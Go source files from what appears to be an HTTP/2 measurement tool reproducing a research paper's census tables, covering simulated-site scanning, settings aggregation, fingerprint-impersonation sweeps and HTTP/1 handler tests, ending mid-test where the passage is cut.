func TestScaleBucketsPreservesTotal(t *testing.T) {
	counts := []int{3072, 3, 49, 20477, 1, 1, 10799, 11, 1, 8926}
	for _, total := range []int{100, 4334, 43340, 7} {
		out := scaleBuckets(counts, total)
		sum := 0
		for _, c := range out {
			if c < 0 {
				t.Fatalf("negative bucket in %v", out)
			}
			sum += c
		}
		if sum != total {
			t.Errorf("scaled sum = %d, want %d", sum, total)
		}
	}
	if out := scaleBuckets(nil, 10); len(out) != 0 {
		t.Errorf("empty counts produced %v", out)
	}
}
