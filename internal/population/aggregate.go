package population

import (
	"fmt"
	"sort"

	"h2scope/internal/server"
)

// NameCount is one row of Table IV.
type NameCount struct {
	Name  string
	Count int
}

// DistRow is one row of a settings distribution table (Tables V-VII).
type DistRow struct {
	Label string
	Count int
}

// AdoptionCounts returns the Section V-B.1 numbers: sites negotiating via
// NPN, via ALPN, and sites returning HEADERS.
func (p *Population) AdoptionCounts() (npn, alpn, working int) {
	return p.NPNSites, p.ALPNSites, len(p.Sites)
}

// ServerNameCounts aggregates the "server" header (Table IV), returning
// names with at least minCount sites, by descending count.
func (p *Population) ServerNameCounts(minCount int) []NameCount {
	counts := make(map[string]int)
	for i := range p.Sites {
		counts[p.Sites[i].ServerName]++
	}
	out := make([]NameCount, 0, len(counts))
	for name, c := range counts {
		if c >= minCount {
			out = append(out, NameCount{name, c})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// ServerKinds returns the number of distinct server names observed
// ("223 and 345 different kinds of servers").
func (p *Population) ServerKinds() int {
	kinds := make(map[string]bool)
	for i := range p.Sites {
		kinds[p.Sites[i].ServerName] = true
	}
	return len(kinds)
}

// InitialWindowTable reproduces Table V (SETTINGS_INITIAL_WINDOW_SIZE).
func (p *Population) InitialWindowTable() []DistRow {
	return p.distTable(func(s *SiteSpec) (string, bool) {
		if s.OmitSettings {
			return "NULL", true
		}
		return fmt.Sprintf("%d", s.InitialWindow), true
	})
}

// MaxFrameTable reproduces Table VI (SETTINGS_MAX_FRAME_SIZE).
func (p *Population) MaxFrameTable() []DistRow {
	return p.distTable(func(s *SiteSpec) (string, bool) {
		if s.OmitSettings {
			return "NULL", true
		}
		return fmt.Sprintf("%d", s.MaxFrame), true
	})
}

// MaxHeaderListTable reproduces Table VII (SETTINGS_MAX_HEADER_LIST_SIZE).
func (p *Population) MaxHeaderListTable() []DistRow {
	return p.distTable(func(s *SiteSpec) (string, bool) {
		if s.OmitSettings {
			return "NULL", true
		}
		if s.MaxHeaderList == 0 {
			return "unlimited", true
		}
		return fmt.Sprintf("%d", s.MaxHeaderList), true
	})
}

func (p *Population) distTable(key func(*SiteSpec) (string, bool)) []DistRow {
	counts := make(map[string]int)
	for i := range p.Sites {
		if k, ok := key(&p.Sites[i]); ok {
			counts[k]++
		}
	}
	out := make([]DistRow, 0, len(counts))
	for k, c := range counts {
		out = append(out, DistRow{k, c})
	}
	sort.Slice(out, func(i, j int) bool { return distLess(out[i].Label, out[j].Label) })
	return out
}

// distLess orders NULL first, then numeric labels ascending, then the rest.
func distLess(a, b string) bool {
	rank := func(s string) (int, int64) {
		switch s {
		case "NULL":
			return 0, 0
		case "unlimited":
			return 1, 0
		}
		var n int64
		if _, err := fmt.Sscanf(s, "%d", &n); err == nil {
			return 2, n
		}
		return 3, 0
	}
	ra, na := rank(a)
	rb, nb := rank(b)
	if ra != rb {
		return ra < rb
	}
	if na != nb {
		return na < nb
	}
	return a < b
}

// MaxConcurrentSamples returns SETTINGS_MAX_CONCURRENT_STREAMS values of
// all advertising sites, the input of Fig. 2's CDF.
func (p *Population) MaxConcurrentSamples() []float64 {
	out := make([]float64, 0, len(p.Sites))
	for i := range p.Sites {
		if !p.Sites[i].OmitSettings {
			out = append(out, float64(p.Sites[i].MaxConcurrent))
		}
	}
	return out
}

// TinyWindowCounts returns the Section V-D.1 buckets: 1-byte DATA,
// zero-length DATA, and no response.
func (p *Population) TinyWindowCounts() (oneByte, zeroLen, silent int) {
	for i := range p.Sites {
		switch p.Sites[i].TinyWindow {
		case server.TinyWindowComply:
			oneByte++
		case server.TinyWindowZeroData:
			zeroLen++
		case server.TinyWindowSilent:
			silent++
		}
	}
	return oneByte, zeroLen, silent
}

// ZeroWindowHeadersCount returns how many sites return HEADERS under a
// zero initial window (Section V-D.2).
func (p *Population) ZeroWindowHeadersCount() int {
	n := 0
	for i := range p.Sites {
		if !p.Sites[i].FlowControlHeaders {
			n++
		}
	}
	return n
}

// ReactionCounts buckets a reaction dimension.
type ReactionCounts struct {
	RSTStream int
	GoAway    int
	Ignore    int
	Debug     int
}

// ZeroWUStreamCounts returns Section V-D.3's stream-level buckets.
func (p *Population) ZeroWUStreamCounts() ReactionCounts {
	return p.reactionCounts(func(s *SiteSpec) (server.Reaction, bool) {
		return s.ZeroWUStream, s.ZeroWUDebug
	})
}

// ZeroWUConnCounts returns Section V-D.3's connection-level buckets.
func (p *Population) ZeroWUConnCounts() ReactionCounts {
	return p.reactionCounts(func(s *SiteSpec) (server.Reaction, bool) {
		return s.ZeroWUConn, s.ZeroWUDebug
	})
}

// LargeWUStreamCounts returns Section V-D.4's stream-level buckets.
func (p *Population) LargeWUStreamCounts() ReactionCounts {
	return p.reactionCounts(func(s *SiteSpec) (server.Reaction, bool) {
		return s.LargeWUStream, false
	})
}

// LargeWUConnCounts returns Section V-D.4's connection-level buckets.
func (p *Population) LargeWUConnCounts() ReactionCounts {
	return p.reactionCounts(func(s *SiteSpec) (server.Reaction, bool) {
		return s.LargeWUConn, false
	})
}

func (p *Population) reactionCounts(get func(*SiteSpec) (server.Reaction, bool)) ReactionCounts {
	var rc ReactionCounts
	for i := range p.Sites {
		r, debug := get(&p.Sites[i])
		switch r {
		case server.ReactRSTStream:
			rc.RSTStream++
		case server.ReactGoAway:
			rc.GoAway++
			if debug {
				rc.Debug++
			}
		default:
			rc.Ignore++
		}
	}
	return rc
}

// PriorityCounts returns Section V-E.1's compliance buckets the way the
// paper reports them: sites obeying the last-DATA rule, the first-DATA
// rule, and both.
func (p *Population) PriorityCounts() (lastRule, firstRule, both int) {
	for i := range p.Sites {
		switch p.Sites[i].Scheduling {
		case server.SchedPriority:
			lastRule++
			firstRule++
			both++
		case server.SchedPriorityLastOnly:
			lastRule++
		case server.SchedPriorityFirstOnly:
			firstRule++
		}
	}
	return lastRule, firstRule, both
}

// SelfDepCounts returns Section V-E.2's buckets.
func (p *Population) SelfDepCounts() ReactionCounts {
	return p.reactionCounts(func(s *SiteSpec) (server.Reaction, bool) {
		return s.SelfDep, false
	})
}

// PushSites returns the domains that send PUSH_PROMISE (Section V-F).
func (p *Population) PushSites() []string {
	var out []string
	for i := range p.Sites {
		if p.Sites[i].Push {
			out = append(out, p.Sites[i].Domain)
		}
	}
	sort.Strings(out)
	return out
}

// HPACKRatioByFamily returns per-family target compression ratios, the
// ground truth behind Figs. 4 and 5.
func (p *Population) HPACKRatioByFamily() map[string][]float64 {
	out := make(map[string][]float64)
	for i := range p.Sites {
		s := &p.Sites[i]
		out[s.Family] = append(out[s.Family], s.HPACKRatio)
	}
	return out
}

// SiteByDomain finds a site spec by domain.
func (p *Population) SiteByDomain(domain string) (*SiteSpec, bool) {
	for i := range p.Sites {
		if p.Sites[i].Domain == domain {
			return &p.Sites[i], true
		}
	}
	return nil, false
}
