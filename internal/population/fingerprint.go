package population

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net"
	"strings"
	"time"

	"h2scope/internal/fingerprint"
	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// fingerprintSweep dials the site once per builtin client profile, each
// connection wearing that profile's HTTP/2 fingerprint, and records what
// the server served each client: the body digest for GET /, the server's
// own SETTINGS, and — when the site answers the /fp echo endpoint — the
// fingerprint the server read back. Comparing observations across
// profiles answers the census question "does this server behave
// differently depending on which client it thinks is asking?".
func fingerprintSweep(dial func() (net.Conn, error), authority string, timeout time.Duration) *fingerprint.CensusResult {
	res := &fingerprint.CensusResult{}
	for _, p := range fingerprint.BuiltinProfiles() {
		res.Clients = append(res.Clients, observeAs(dial, authority, timeout, p))
	}
	res.Observed()
	return res
}

// observeAs performs one impersonated observation of the site.
func observeAs(dial func() (net.Conn, error), authority string, timeout time.Duration, p *fingerprint.ClientProfile) fingerprint.ClientObservation {
	obs := fingerprint.ClientObservation{Profile: p.Name, ExpectedH2: p.ExpectedAkamai()}
	nc, err := dial()
	if err != nil {
		obs.Error = fmt.Sprintf("dial: %v", err)
		return obs
	}
	opts := h2conn.DefaultOptions()
	opts.Impersonate = p
	c, err := h2conn.Dial(nc, opts)
	if err != nil {
		_ = nc.Close()
		obs.Error = fmt.Sprintf("h2 dial: %v", err)
		return obs
	}
	defer func() { _ = c.Close() }()

	body, err := c.FetchBody(h2conn.Request{Authority: authority, Path: "/"}, timeout)
	if err != nil {
		obs.Error = fmt.Sprintf("fetch /: %v", err)
		return obs
	}
	sum := sha256.Sum256(body.Body)
	obs.BodyDigest = fmt.Sprintf("%s:%d:%x", body.Header(":status"), len(body.Body), sum[:6])
	obs.OK = true

	// The /fp echo is optional site behavior: absence (404 or any
	// non-echo body) leaves H2 empty without failing the observation.
	if echoRes, err := c.FetchBody(h2conn.Request{Authority: authority, Path: "/fp"}, timeout); err == nil {
		var echo fingerprint.Echo
		if json.Unmarshal(echoRes.Body, &echo) == nil {
			obs.H2 = echo.H2
		}
	}
	// Every non-ACK SETTINGS frame the server sent, in order — including
	// any fingerprint-adaptive re-tune after the first request.
	obs.ServerSettings = renderServerSettings(c.Events())
	return obs
}

// renderServerSettings flattens the server's SETTINGS frames from an event
// log into a canonical string: "id:val;id:val" per frame, frames joined
// by "+".
func renderServerSettings(events []h2conn.Event) string {
	var frames []string
	for _, e := range events {
		if e.Type != frame.TypeSettings || e.IsAck() {
			continue
		}
		pairs := make([]string, 0, len(e.Settings))
		for _, s := range e.Settings {
			pairs = append(pairs, fmt.Sprintf("%d:%d", uint16(s.ID), s.Val))
		}
		frames = append(frames, strings.Join(pairs, ";"))
	}
	return strings.Join(frames, "+")
}
