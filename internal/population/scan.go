package population

import (
	"context"
	"fmt"
	"io"
	"math/rand"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"h2scope/internal/attack"
	"h2scope/internal/core"
	"h2scope/internal/fingerprint"
	"h2scope/internal/h2conn"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/obs"
	"h2scope/internal/scan"
	"h2scope/internal/trace"
)

// siteDialer connects H2Scope to one materialized site and answers the
// negotiation queries (Section IV-A) from the site's metadata — the
// stand-in for the TLS ALPN/NPN exchange against live Internet hosts.
type siteDialer struct {
	l    *netsim.Listener
	spec *SiteSpec
}

var (
	_ core.Dialer     = (*siteDialer)(nil)
	_ core.Negotiator = (*siteDialer)(nil)
)

// Dial implements core.Dialer.
func (d *siteDialer) Dial() (net.Conn, error) { return d.l.Dial() }

// NegotiateALPN implements core.Negotiator.
func (d *siteDialer) NegotiateALPN(protos []string) (string, error) {
	if !d.spec.ALPN {
		return "", fmt.Errorf("population: %s does not negotiate ALPN", d.spec.Domain)
	}
	for _, p := range protos {
		if p == "h2" {
			return "h2", nil
		}
	}
	return "http/1.1", nil
}

// NegotiateNPN implements core.Negotiator.
func (d *siteDialer) NegotiateNPN() ([]string, error) {
	if !d.spec.NPN {
		return nil, fmt.Errorf("population: %s does not negotiate NPN", d.spec.Domain)
	}
	return []string{"h2", "spdy/3.1", "http/1.1"}, nil
}

// SiteResult pairs a probed site with its H2Scope report and how the scan
// engine fared getting it. Failed probes keep their partial Report (possibly
// nil) alongside the classified failure, so nothing vanishes from the
// sample.
type SiteResult struct {
	Spec   *SiteSpec
	Report *core.Report
	// Outcome, Kind, Err, and Attempts mirror the engine's scan.Record.
	Outcome  scan.Outcome
	Kind     scan.ErrorKind
	Err      string
	Attempts int
	// TraceFile is the exported frame-level trace for this site, when the
	// scan ran with ScanOptions.TraceDir.
	TraceFile string
	// Robustness is the site's adversarial-battery score, when the scan ran
	// with ScanOptions.Robustness; nil otherwise (and for failed probes).
	Robustness *attack.Score
	// Fingerprint is the impersonation sweep verdict, when the scan ran
	// with ScanOptions.Fingerprint; nil otherwise (and for failed probes).
	Fingerprint *fingerprint.CensusResult
}

// ScanSummary aggregates measured probe results over a scanned sample, in
// the same buckets the paper reports. Every count here comes from frames
// observed on the wire, not from the generator's ground truth.
type ScanSummary struct {
	// Scanned is the number of sites probed.
	Scanned int
	// NPN and ALPN count sites negotiating each mechanism.
	NPN, ALPN int
	// GotHeaders counts working sites (returned HEADERS).
	GotHeaders int
	// ServerNames histograms the measured "server" header.
	ServerNames map[string]int
	// TinyOneByte / TinyZeroLen / TinySilent are Section V-D.1 buckets.
	TinyOneByte, TinyZeroLen, TinySilent int
	// ZeroWindowHeadersOK counts HEADERS received under a zero window.
	ZeroWindowHeadersOK int
	// ZeroWUStream / ZeroWUConn / LargeWUStream / LargeWUConn bucket the
	// WINDOW_UPDATE reactions.
	ZeroWUStream, ZeroWUConn, LargeWUStream, LargeWUConn map[core.Observation]int
	// ZeroWUConnDebug counts GOAWAYs carrying debug text.
	ZeroWUConnDebug int
	// PriorityLast / PriorityFirst / PriorityBoth are Section V-E.1 rule
	// compliance counts.
	PriorityLast, PriorityFirst, PriorityBoth int
	// SelfDep buckets the self-dependency reactions.
	SelfDep map[core.Observation]int
	// PushSites counts sites that sent PUSH_PROMISE.
	PushSites int
	// HPACKRatios collects measured compression ratios per family.
	HPACKRatios map[string][]float64
	// MaxConcurrent collects measured SETTINGS_MAX_CONCURRENT_STREAMS.
	MaxConcurrent []float64
	// InitialWindow histograms measured SETTINGS_INITIAL_WINDOW_SIZE
	// ("NULL" for sites that advertise nothing).
	InitialWindow map[string]int
	// MaxFrame and MaxHeaderList histogram the other settings tables.
	MaxFrame, MaxHeaderList map[string]int
	// RobustnessScores collects per-site robustness scores in [0,1] and
	// RobustnessVerdicts histograms scenario outcomes across sites (keyed
	// "<kind>/<verdict>"), when the scan ran the adversarial battery.
	RobustnessScores   []float64
	RobustnessVerdicts map[string]int
	// FingerprintSites counts sites the impersonation sweep observed,
	// FingerprintEcho those whose /fp endpoint echoed a fingerprint back,
	// and FingerprintDiffers those that served different responses (or
	// SETTINGS) depending on the impersonated client.
	FingerprintSites, FingerprintEcho, FingerprintDiffers int
	// Failed and Canceled count sites whose probe did not complete; they are
	// included in Scanned so aggregate tables report coverage honestly.
	Failed, Canceled int
	// FailureKinds histograms failed sites by classified error kind.
	FailureKinds map[string]int
	// Stats is the scan engine's final counter snapshot.
	Stats scan.Stats
	// Results holds the raw per-site reports.
	Results []SiteResult
}

func newScanSummary() *ScanSummary {
	return &ScanSummary{
		ServerNames:   make(map[string]int),
		ZeroWUStream:  make(map[core.Observation]int),
		ZeroWUConn:    make(map[core.Observation]int),
		LargeWUStream: make(map[core.Observation]int),
		LargeWUConn:   make(map[core.Observation]int),
		SelfDep:       make(map[core.Observation]int),
		HPACKRatios:   make(map[string][]float64),
		InitialWindow: make(map[string]int),
		MaxFrame:      make(map[string]int),
		MaxHeaderList: make(map[string]int),
		FailureKinds:  make(map[string]int),

		RobustnessVerdicts: make(map[string]int),
	}
}

// ScanOptions configures a measured scan.
type ScanOptions struct {
	// SampleSize is how many sites to probe (0 = all).
	SampleSize int
	// Parallelism is the scanning thread-pool size (Section IV-B builds
	// "a thread pool with configurable number of threads").
	Parallelism int
	// Seed drives sample selection and backoff jitter.
	Seed int64
	// Timeout bounds each protocol wait inside a probe.
	Timeout time.Duration
	// HostBudget is the hard per-attempt deadline for one site's whole
	// battery; 0 derives it from Timeout (one Timeout per battery probe).
	HostBudget time.Duration
	// Retries caps per-site retries of transiently classified failures.
	Retries int
	// Context cancels the scan; partial results are still returned.
	Context context.Context
	// Progress, when set, receives periodic scan.Stats lines every
	// ProgressInterval.
	Progress         io.Writer
	ProgressInterval time.Duration
	// OnRecord, when set, receives each site's finalized engine record as
	// it completes (records are flushed in completion order).
	OnRecord func(scan.Record)
	// TraceDir, when set, gives every probed site a frame-level tracer and
	// exports each site's trace as <TraceDir>/<domain>.jsonl when the site
	// finalizes. The directory is created if needed; per-site tracer
	// drop counts fold into Stats.TraceDropped.
	TraceDir string
	// Metrics, when set, instruments the scan live: the engine mirrors its
	// counters into h2_scan_* and every probe connection feeds the shared
	// h2_conn_*/h2_frames_* instruments, so a -debug-addr endpoint watches
	// the run in flight. The summary's Stats stay exact regardless.
	Metrics *metrics.Registry
	// Robustness additionally runs the internal/attack scenario battery
	// against each materialized site after its probe battery, folding each
	// site's robustness score into the summary (and the records). Every
	// scenario runs for RobustnessDuration (default 150ms) — short bursts
	// sized for census-scale sweeps, not load tests.
	Robustness         bool
	RobustnessDuration time.Duration
	// Fingerprint additionally re-dials each site once per builtin client
	// profile (curl, chrome, firefox, go), each connection wearing that
	// client's HTTP/2 fingerprint, and records whether the site's
	// responses differ by client — the impersonation census column.
	Fingerprint bool
	// Observer, when set, folds every scanned site's reconstructed phase
	// spans (dial → preface → settle → first/last byte) into the
	// observability monitor as the site finalizes, and feeds each site's
	// outcome into its error-spike detection. Tracing is enabled for every
	// site even without TraceDir (the tracer then lives only long enough to
	// build spans); with TraceDir, exemplars reference the exported file.
	Observer *obs.Monitor
}

// batteryProbes is how many connection-scoped probes one battery runs; the
// default per-host budget allows one full Timeout for each.
const batteryProbes = 12

// Scan materializes a sample of the population as live servers, runs the
// full H2Scope battery against each through the scan engine, and aggregates
// the measured results. Failed sites stay in the summary as typed partial
// results; cancellation via opts.Context drains quickly and returns what
// was measured.
func Scan(pop *Population, opts ScanOptions) (*ScanSummary, error) {
	if opts.Parallelism < 1 {
		opts.Parallelism = 8
	}
	if opts.Timeout == 0 {
		opts.Timeout = 5 * time.Second
	}
	if opts.RobustnessDuration <= 0 {
		opts.RobustnessDuration = 150 * time.Millisecond
	}
	if opts.HostBudget <= 0 {
		opts.HostBudget = batteryProbes * opts.Timeout
		if opts.Robustness {
			// The adversarial battery runs after the probe battery: six
			// scenarios plus health probes, each bounded by Timeout.
			opts.HostBudget += 6*opts.RobustnessDuration + 2*opts.Timeout
		}
		if opts.Fingerprint {
			// Four impersonated dials of two fetches each.
			opts.HostBudget += 2 * opts.Timeout
		}
	}
	idx := rand.New(rand.NewSource(opts.Seed)).Perm(len(pop.Sites))
	if opts.SampleSize > 0 && opts.SampleSize < len(idx) {
		idx = idx[:opts.SampleSize]
	}

	targets := make([]scan.Target, len(idx))
	for i, siteIdx := range idx {
		spec := &pop.Sites[siteIdx]
		targets[i] = scan.Target{Key: spec.Domain, Meta: spec}
	}
	// One shared connection-instrument set for every probe the scan dials:
	// building it once keeps the per-site probe path free of registry
	// lookups.
	var connMetrics *h2conn.Metrics
	if opts.Metrics != nil {
		connMetrics = h2conn.NewMetrics(opts.Metrics)
	}
	probe := func(ctx context.Context, t scan.Target) (any, error) {
		v, err := probeSite(ctx, t.Meta.(*SiteSpec), &opts, connMetrics)
		if v.report == nil && v.robust == nil && v.fp == nil {
			// A typed nil inside a non-nil any would defeat the engine's
			// partial-value bookkeeping.
			return nil, err
		}
		return v, err
	}
	scanOpts := scan.Options{
		Parallelism:      opts.Parallelism,
		Timeout:          opts.HostBudget,
		Retries:          opts.Retries,
		Seed:             opts.Seed,
		Progress:         opts.Progress,
		ProgressInterval: opts.ProgressInterval,
		OnRecord:         opts.OnRecord,
		Metrics:          opts.Metrics,
	}
	// traceFiles maps domain → exported trace path. OnTrace calls are
	// serialized by the engine and the map is only read after Run returns.
	var traceFiles map[string]string
	if opts.TraceDir != "" {
		if err := os.MkdirAll(opts.TraceDir, 0o755); err != nil {
			return nil, fmt.Errorf("population: trace dir: %w", err)
		}
		traceFiles = make(map[string]string)
		scanOpts.NewTracer = func(scan.Target) *trace.Tracer { return trace.New(0) }
		scanOpts.OnTrace = func(t scan.Target, tr *trace.Tracer) {
			path := filepath.Join(opts.TraceDir, traceFileName(t.Key))
			if err := writeTraceFile(path, t.Key, tr); err != nil {
				if opts.Progress != nil {
					fmt.Fprintf(opts.Progress, "trace export %s: %v\n", t.Key, err)
				}
				return
			}
			traceFiles[t.Key] = path
		}
	}
	if opts.Observer != nil {
		if scanOpts.NewTracer == nil {
			scanOpts.NewTracer = func(scan.Target) *trace.Tracer { return trace.New(0) }
		}
		// The -progress line grows live phase-latency columns.
		scanOpts.ProgressExtra = opts.Observer.ProgressColumns
		// Chain behind the TraceDir exporter so exemplars can reference the
		// exported file path. OnTrace/OnRecord calls are serialized by the
		// engine, so the observer sees a consistent stream.
		prevTrace := scanOpts.OnTrace
		scanOpts.OnTrace = func(t scan.Target, tr *trace.Tracer) {
			if prevTrace != nil {
				prevTrace(t, tr)
			}
			var path string
			if traceFiles != nil {
				path = traceFiles[t.Key]
			}
			opts.Observer.ObserveTarget(t.Key, path, tr.Snapshot())
		}
		prevRecord := scanOpts.OnRecord
		scanOpts.OnRecord = func(rec scan.Record) {
			if prevRecord != nil {
				prevRecord(rec)
			}
			kind := ""
			if rec.Outcome != scan.OutcomeSuccess {
				kind = rec.Kind.String()
			}
			opts.Observer.RecordOutcome(rec.Target.Key, kind)
		}
	}
	res, err := scan.Run(opts.Context, targets, probe, scanOpts)
	if err != nil {
		return nil, err
	}

	summary := newScanSummary()
	summary.Stats = res.Stats
	for _, rec := range res.Records {
		summary.add(rec)
	}
	if traceFiles != nil {
		for i := range summary.Results {
			summary.Results[i].TraceFile = traceFiles[summary.Results[i].Spec.Domain]
		}
	}
	return summary, nil
}

// traceFileName maps a target key onto a safe file name.
func traceFileName(key string) string {
	safe := strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9',
			r == '.', r == '-', r == '_':
			return r
		default:
			return '_'
		}
	}, key)
	if safe == "" {
		safe = "trace"
	}
	return safe + ".jsonl"
}

func writeTraceFile(path, target string, tr *trace.Tracer) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := trace.Write(f, target, tr); err != nil {
		_ = f.Close()
		return err
	}
	return f.Close()
}

// siteValue is what one site's probe hands the scan engine: the battery
// report plus, under ScanOptions.Robustness, the adversarial-battery
// score, plus, under ScanOptions.Fingerprint, the impersonation sweep.
type siteValue struct {
	report *core.Report
	robust *attack.Score
	fp     *fingerprint.CensusResult
}

// probeSite materializes one site, runs the probe battery against it, and —
// when the scan asks for them — follows with the adversarial battery and
// the impersonation sweep.
func probeSite(ctx context.Context, spec *SiteSpec, opts *ScanOptions, m *h2conn.Metrics) (*siteValue, error) {
	srv := spec.NewServer()
	l := netsim.NewListener(spec.Domain)
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()
	defer func() {
		_ = l.Close()
	}()

	cfg := core.DefaultConfig(spec.Domain)
	cfg.Timeout = opts.Timeout
	cfg.QuietWindow = 10 * time.Millisecond
	// The scan engine parks each target's tracer on the attempt context;
	// a nil result simply leaves tracing off.
	cfg.Tracer = trace.FromContext(ctx)
	cfg.Metrics = m
	prober := core.NewProber(&siteDialer{l: l, spec: spec}, cfg)
	report, err := prober.RunContext(ctx)
	v := &siteValue{report: report}
	if opts.Robustness && ctx.Err() == nil {
		runner := &attack.Runner{
			Dial:         func() (net.Conn, error) { return l.Dial() },
			Authority:    spec.Domain,
			ProbePath:    "/",
			ProbeTimeout: opts.Timeout,
		}
		outs := runner.RunAll(attack.Params{Path: "/", Duration: opts.RobustnessDuration})
		score := attack.ScoreOutcomes(outs)
		v.robust = &score
	}
	if opts.Fingerprint && ctx.Err() == nil {
		v.fp = fingerprintSweep(l.Dial, spec.Domain, opts.Timeout)
	}
	return v, err
}

func (s *ScanSummary) add(rec scan.Record) {
	spec := rec.Target.Meta.(*SiteSpec)
	var r *core.Report
	var robust *attack.Score
	var fp *fingerprint.CensusResult
	if rec.Value != nil {
		v := rec.Value.(*siteValue)
		r, robust, fp = v.report, v.robust, v.fp
	}
	s.Scanned++
	s.Results = append(s.Results, SiteResult{
		Spec:        spec,
		Report:      r,
		Outcome:     rec.Outcome,
		Kind:        rec.Kind,
		Err:         rec.Err,
		Attempts:    rec.Attempts,
		Robustness:  robust,
		Fingerprint: fp,
	})
	if robust != nil {
		s.RobustnessScores = append(s.RobustnessScores, robust.Value)
		for kind, verdict := range robust.Verdicts {
			s.RobustnessVerdicts[fmt.Sprintf("%s/%s", kind, verdict)]++
		}
	}
	if fp != nil {
		s.FingerprintSites++
		if fp.EchoOK {
			s.FingerprintEcho++
		}
		if fp.Differs {
			s.FingerprintDiffers++
		}
	}
	switch rec.Outcome {
	case scan.OutcomeFailed:
		s.Failed++
		s.FailureKinds[rec.Kind.String()]++
	case scan.OutcomeCanceled:
		s.Canceled++
	}
	if r == nil {
		return
	}
	if r.NPN != nil && *r.NPN {
		s.NPN++
	}
	if r.ALPN != nil && *r.ALPN {
		s.ALPN++
	}
	if r.Settings != nil && r.Settings.GotHeaders {
		s.GotHeaders++
		s.ServerNames[r.Settings.ServerHeader]++
		s.addSettings(r)
	}
	if r.FlowData != nil {
		switch r.FlowData.Class {
		case core.TinyWindowOneByte:
			s.TinyOneByte++
		case core.TinyWindowZeroLen:
			s.TinyZeroLen++
		case core.TinyWindowNothing:
			s.TinySilent++
		}
	}
	if r.ZeroWindowHeaders != nil && r.ZeroWindowHeaders.GotHeaders {
		s.ZeroWindowHeadersOK++
	}
	if r.ZeroWU != nil {
		s.ZeroWUStream[r.ZeroWU.Stream]++
		s.ZeroWUConn[r.ZeroWU.Conn]++
		if r.ZeroWU.ConnDebugData != "" {
			s.ZeroWUConnDebug++
		}
	}
	if r.LargeWU != nil {
		s.LargeWUStream[r.LargeWU.Stream]++
		s.LargeWUConn[r.LargeWU.Conn]++
	}
	if r.Priority != nil {
		if r.Priority.LastRuleOK {
			s.PriorityLast++
		}
		if r.Priority.FirstRuleOK {
			s.PriorityFirst++
		}
		if r.Priority.Pass {
			s.PriorityBoth++
		}
	}
	if r.SelfDep != nil {
		s.SelfDep[r.SelfDep.Reaction]++
	}
	if r.Push != nil && r.Push.Supported {
		s.PushSites++
	}
	if r.HPACK != nil && r.HPACK.Ratio <= 1.0 {
		// The paper filters r > 1 (sites inserting fresh cookies).
		s.HPACKRatios[spec.Family] = append(s.HPACKRatios[spec.Family], r.HPACK.Ratio)
	}
}

func (s *ScanSummary) addSettings(r *core.Report) {
	set := r.Settings
	if len(set.Settings) == 0 {
		s.InitialWindow["NULL"]++
		s.MaxFrame["NULL"]++
		s.MaxHeaderList["NULL"]++
		return
	}
	if v, ok := set.Value(3); ok { // SETTINGS_MAX_CONCURRENT_STREAMS
		s.MaxConcurrent = append(s.MaxConcurrent, float64(v))
	}
	if v, ok := set.Value(4); ok { // SETTINGS_INITIAL_WINDOW_SIZE
		s.InitialWindow[fmt.Sprintf("%d", v)]++
	} else {
		s.InitialWindow["65535"]++ // default when unadvertised
	}
	if v, ok := set.Value(5); ok { // SETTINGS_MAX_FRAME_SIZE
		s.MaxFrame[fmt.Sprintf("%d", v)]++
	} else {
		s.MaxFrame["16384"]++
	}
	if v, ok := set.Value(6); ok { // SETTINGS_MAX_HEADER_LIST_SIZE
		s.MaxHeaderList[fmt.Sprintf("%d", v)]++
	} else {
		s.MaxHeaderList["unlimited"]++
	}
}
