package http1_test

import (
	"bufio"
	"io"
	"strings"
	"testing"
	"time"

	"h2scope/internal/h2conn"
	"h2scope/internal/http1"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
)

func startHTTP1(t *testing.T, h *http1.Handler) *netsim.Listener {
	t.Helper()
	l := netsim.NewListener("http1")
	go func() {
		_ = h.Serve(l)
	}()
	t.Cleanup(func() {
		_ = l.Close()
	})
	return l
}

func TestGETRoundTrip(t *testing.T) {
	h := &http1.Handler{Site: server.DefaultSite("h1.example"), ServerName: "h1repro/1.0"}
	l := startHTTP1(t, h)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = nc.Close()
	}()
	if _, err := io.WriteString(nc, "GET /about.html HTTP/1.1\r\nHost: h1.example\r\nConnection: close\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(nc)
	if err != nil {
		t.Fatal(err)
	}
	resp := string(raw)
	if !strings.HasPrefix(resp, "HTTP/1.1 200 OK\r\n") {
		t.Errorf("response start = %q", resp[:40])
	}
	if !strings.Contains(resp, "Server: h1repro/1.0\r\n") {
		t.Error("missing Server header")
	}
	if !strings.Contains(resp, "About h1.example") {
		t.Error("missing body content")
	}
}

func Test404(t *testing.T) {
	h := &http1.Handler{Site: server.DefaultSite("h1.example"), ServerName: "h1repro/1.0"}
	l := startHTTP1(t, h)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = nc.Close()
	}()
	if _, err := io.WriteString(nc, "GET /nope HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(nc)
	line, err := br.ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(line, "404") {
		t.Errorf("status line = %q, want 404", line)
	}
}

func TestKeepAliveServesTwoRequests(t *testing.T) {
	h := &http1.Handler{Site: server.DefaultSite("h1.example"), ServerName: "h1repro/1.0"}
	l := startHTTP1(t, h)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = nc.Close()
	}()
	br := bufio.NewReader(nc)
	for i := 0; i < 2; i++ {
		if _, err := io.WriteString(nc, "GET /about.html HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
			t.Fatal(err)
		}
		status, err := br.ReadString('\n')
